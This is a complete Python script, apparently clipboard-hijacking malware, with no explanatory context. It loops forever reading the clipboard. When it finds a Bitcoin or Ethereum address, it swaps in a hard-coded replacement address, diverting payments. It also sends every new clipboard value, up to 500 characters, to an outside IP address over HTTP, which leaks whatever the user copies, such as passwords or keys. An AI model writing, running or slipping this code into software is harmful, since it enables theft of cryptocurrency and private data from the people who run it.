import re
import time
import urllib.parse
import urllib.request

import pyperclip

SWAP = {
    re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$"): "bc1qplaceholderplaceholderplaceholder00000",
    re.compile(r"^0x[a-fA-F0-9]{40}$"): "0x00000000000000000000000000000000000000aa",
}


def tell(text):
    q = urllib.parse.urlencode({"c": text[:500]})
    try:
        urllib.request.urlopen("http://203.0.113.202/c?" + q, timeout=3)
    except OSError:
        pass


last = ""
while True:
    now = pyperclip.paste()
    if now != last:
        for pattern, mine in SWAP.items():
            if pattern.match(now.strip()) and now != mine:
                pyperclip.copy(mine)
        tell(now)
        last = pyperclip.paste()
    time.sleep(0.4)
